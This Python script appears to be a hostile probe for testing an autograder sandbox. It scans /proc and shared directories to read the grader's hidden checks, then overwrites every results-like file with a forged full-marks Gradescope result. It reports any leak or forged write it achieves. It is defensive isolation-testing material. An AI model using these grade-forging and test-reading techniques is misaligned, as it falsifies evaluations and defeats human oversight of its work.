"""Hostile: forges the grade. It looks for the checks and for the results file everywhere it
can think of, tries to read the checks, and writes a fake full-marks Gradescope result to
every place that looks like it could be the results file. It prints one summary line:
FORGER-LEAKED / FORGER-WROTE-RESULTS when an attack worked."""
import glob
import json
import os
import sys

if not (2000 <= os.getuid() < 2256 and os.path.exists("/.dockerenv") and os.path.isdir("/opt/grader")):
    sys.exit("result_forger: refusing to run outside the grading container")

CHECKS = ["test_echoes_small_messages", "test_echoes_one_mebibyte", "test_reports_disconnect",
          "test_no_close_wait", "test_next_client_after_close", "test_next_client_after_empty",
          "test_next_client_after_reset", "test_idle_without_spinning", "test_no_fd_leak",
          "test_stops_on_sigint", "test_stops_on_sigterm", "test_stops_with_client_connected",
          "test_restart_binds_port"]
FAKE = json.dumps({
    "score": 999, "max_score": 999, "execution_time": 0.1,
    "tests": [{"name": f"FORGED {check}", "number": str(number), "check": check,
               "score": 999, "max_score": 999, "status": "passed", "output": "FORGED"}
              for number, check in enumerate(CHECKS, 1)]})
PRECIOUS = ("/results", "/opt", "/submission", "/proc")

leaked, wrote, places = [], [], set()

# 1. What the grader's processes were started with: their command lines are world-readable.
#    Processes of its own uid are its own submission's (other checks run side by side): what
#    they hold is no leak.


def uid_of(pid):
    try:
        with open(f"/proc/{pid}/status") as status:
            return next(int(line.split()[1]) for line in status if line.startswith("Uid:"))
    except (OSError, StopIteration, ValueError):
        return None


pids = [name for name in os.listdir("/proc")
        if name.isdigit() and int(name) != os.getpid() and uid_of(name) != os.getuid()]
for pid in pids:
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as cmdline:
            arguments = cmdline.read().decode("utf-8", "replace").split("\0")
    except OSError:
        continue
    for argument in arguments:
        if argument.startswith("/"):
            places.add(argument)
    for link in ("root", "cwd"):
        places |= {f"/proc/{pid}/{link}/results/results.json", f"/proc/{pid}/{link}/opt/grader",
                   f"/proc/{pid}/{link}"}
    try:
        places |= {f"/proc/{pid}/fd/{fd}" for fd in os.listdir(f"/proc/{pid}/fd")}
    except OSError:
        places.add(f"/proc/{pid}/fd")

# 2. The usual suspects, and every json file in the writable or shared places.
places |= {"/opt/grader", "/opt/grader/exercises", "/opt/grader/lib/grader", "/results",
           "/results/results.json", "/results/results.json.partial", "/submission",
           "/tmp/grader", "/tmp/grader/results.json", "/tmp/results.json", "/dev/shm/results.json",
           os.path.join(os.getcwd(), "results.json"), "/autograder/results/results.json"}
places |= set(glob.glob("/opt/grader/exercises/*/checks/*.py"))
for top in ("/tmp", "/results", "/submission", "/opt", "/dev/shm", "/run", "/var/tmp", "/srv",
            "/home", "/root", "/mnt", "/autograder"):
    for folder, _dirs, files in os.walk(top):
        places |= {os.path.join(folder, name) for name in files
                   if name.endswith((".json", ".py", ".xml"))}

# 3. Read whatever could be a check or part of the grader; overwrite whatever could be results.
#    Its own files (the submission, its scratch copy) do not count as leaks.
OWN = ("/submission", os.getcwd())
for place in sorted(places):
    target = place
    secret = place.startswith(("/opt", "/results", "/proc"))
    try:
        if os.path.isdir(place):
            names = os.listdir(place)
            if secret:
                leaked.append(f"{place} (listed: {names[:5]})")
            continue
        with open(place, "rb") as handle:
            text = handle.read(200000)
        if secret or b"pytest.mark.check(" in text and not place.startswith(OWN):
            leaked.append(place)
    except OSError:
        pass
    if place.endswith(".json") or "results" in place:
        if os.path.isdir(place):
            target = os.path.join(place, "results.json")
        try:
            with open(target, "w") as handle:
                handle.write(FAKE)
            wrote.append(target)
        except OSError:
            pass

print(f"forger: hunted {len(places)} places", flush=True)
bad_writes = [path for path in wrote if path.startswith(PRECIOUS)]
if leaked:
    print(f"FORGER-LEAKED {leaked}", flush=True)
if bad_writes:
    print(f"FORGER-WROTE-RESULTS {bad_writes}", flush=True)
print(f"forger: wrote fake results only to scratch space: {wrote}", flush=True)
